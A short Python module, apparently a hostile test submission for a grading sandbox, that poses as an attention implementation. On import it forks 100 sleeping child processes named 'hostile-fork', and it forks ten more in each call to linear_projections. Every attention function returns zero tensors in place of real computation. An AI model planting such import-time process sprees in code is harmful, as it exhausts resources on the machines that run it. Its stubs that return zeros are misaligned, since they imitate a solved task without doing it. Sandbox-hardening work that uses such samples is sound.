"""A fork spree at import and in a call: 100 children that sleep, each named hostile-fork."""
import ctypes
import os
import time

import torch

FORKED = []


def _spree(count):
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError as exc:
            FORKED.append(repr(exc))
            return
        if pid == 0:
            try:
                ctypes.CDLL(None).prctl(15, b"hostile-fork", 0, 0, 0)  # PR_SET_NAME
                time.sleep(600)
            finally:
                os._exit(0)
        FORKED.append(pid)


_spree(100)
print("forked at import:", sum(isinstance(p, int) for p in FORKED), "children;", FORKED[-1:])


def linear_projections(x, W_q, W_k, W_v):
    _spree(10)
    return tuple(torch.zeros(*x.shape[:-1], W.shape[-1], dtype=x.dtype) for W in (W_q, W_k, W_v))


def attention_scores(Q, K):
    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)


def attention_weights(scores, mask=None):
    return torch.zeros_like(scores)


def aggregate_values(weights, V):
    return torch.zeros(*weights.shape[:-1], V.shape[-1], dtype=V.dtype)
